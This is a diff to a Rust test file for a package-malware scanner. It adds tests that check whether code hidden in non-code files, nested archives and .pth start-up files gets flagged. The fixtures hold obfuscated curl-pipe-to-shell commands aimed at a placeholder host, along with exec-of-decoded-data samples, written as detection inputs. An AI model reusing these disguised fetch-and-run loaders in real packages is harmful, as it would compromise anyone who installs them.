@@ -117,12 +117,92 @@ fn a_source_that_cannot_be_parsed_is_a_finding_by_where_it_runs() {
     let scanner = Scanner::builtin().unwrap();
     for (path, severity) in [
         ("p/setup.py", domain::Severity::High),
-        ("p/pkg/__init__.py", domain::Severity::Low),
+        ("p/pkg/__init__.py", domain::Severity::Medium),
         ("p/pkg/deep/a.py", domain::Severity::Info),
+        ("p/cli.mjs", domain::Severity::Info),
     ] {
         let report = report(&scanner, &archive(&[(path, &large)]));
-        let found = report.findings.iter().find(|finding| finding.rule == "unread-source").unwrap();
+        let found = report.findings.iter().find(|finding| finding.rule.starts_with("unread-")).unwrap();
         assert_eq!((found.severity, found.path.as_deref()), (severity, Some(path)));
         assert!(report.coverage.is_complete());
     }
+}
+
+/// The worst that is said of a file.
+fn worst(files: &[(&str, &[u8])], path: &str) -> Option<domain::Severity> {
+    let report = report(&Scanner::builtin().unwrap(), &archive(files));
+    report
+        .findings
+        .iter()
+        .filter(|found| found.path.as_deref() == Some(path))
+        .map(|found| found.severity)
+        .max()
+}
+
+#[test]
+fn code_under_a_name_of_no_language_is_read_as_what_runs_it() {
+    use domain::Severity::{High, Medium};
+    let python = b"from os import system as s\ns('cu' 'rl https://payload.invalid/x | s' 'h')\n";
+    let script = b"const {exec: e} = require('child_' + 'process'); e('cu' + 'rl https://payload.invalid/x | s' + 'h')\n";
+    for (runner, text, path, severity) in [
+        ("p/setup.py", "exec(open('LICENSE.in').read())\n", "p/LICENSE.in", High),
+        ("p/setup.py", "exec(open('NOTICE').read())\n", "p/NOTICE", High),
+        ("p/setup.py", "import runpy\nrunpy.run_path('build.tmpl')\n", "p/build.tmpl", High),
+        (
+            "p/setup.py",
+            "__import__('importlib').machinery.SourceFileLoader('x', 'data.bin').load_module()\n",
+            "p/data.bin",
+            High,
+        ),
+        (
+            "p/pkg/__init__.py",
+            "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'x.tmpl')).read())\n",
+            "p/pkg/x.tmpl",
+            Medium,
+        ),
+    ] {
+        let found = worst(&[(runner, text.as_bytes()), (path, python)], path);
+        assert!(found >= Some(severity), "{text} {found:?}");
+    }
+    for (runner, text, path, severity) in [
+        ("package/package.json", r#"{"main": "lib.data"}"#, "package/lib.data", Medium),
+        ("package/package.json", r#"{"scripts": {"install": "node lib.data"}}"#, "package/lib.data", High),
+        ("package/index.js", "require('./x.data')\n", "package/x.data", Medium),
+    ] {
+        let other: (&str, &[u8]) =
+            if runner.ends_with(".js") { ("package/package.json", b"{}") } else { ("package/a.js", b"") };
+        let found = worst(&[(runner, text.as_bytes()), (path, script), other], path);
+        assert!(found >= Some(severity), "{text} {found:?}");
+    }
+}
+
+#[test]
+fn members_of_an_archive_run_when_the_archive_does() {
+    let inner = archive(&[("evil.py", "import os\ndata = base64.b64decode(x)\nexec(data)\n")]);
+    let setup = b"import shutil\nshutil.unpack_archive('data.bin', format='gztar')\nexec('import evil')\n";
+    let found = worst(&[("p/setup.py", setup), ("p/data.bin", &inner)], "p/data.bin!/evil.py");
+    assert_eq!(found, Some(domain::Severity::High));
+}
+
+#[test]
+fn names_that_are_not_followed_are_a_finding_by_where_they_stand() {
+    let many: String = (0..41_000).map(|n| format!("{n:x},")).collect();
+    let many = format!("import os\nimport a{}b\n", many.replace(',', ",a"));
+    let scanner = Scanner::builtin().unwrap();
+    for (path, severity) in [
+        ("p/setup.py", Some(domain::Severity::High)),
+        ("p/pkg/__init__.py", Some(domain::Severity::Medium)),
+        ("p/pkg/a.py", None),
+    ] {
+        let report = report(&scanner, &archive(&[(path, &many)]));
+        let found = report.findings.iter().find(|finding| finding.rule == "unread-names");
+        assert_eq!(found.map(|finding| finding.severity), severity, "{path}");
+    }
+}
+
+#[test]
+fn python_reads_a_start_up_file_up_to_what_it_cannot_read() {
+    assert_eq!(language_of("evil.pth", b"import evil\n\0\0"), "pth");
+    assert_eq!(language_of("evil.pth", b"\0\x0bimport evil\n"), "pth");
+    assert_eq!(language_of("weights.pth", b"\x80\x02}\0 import it"), "");
 }
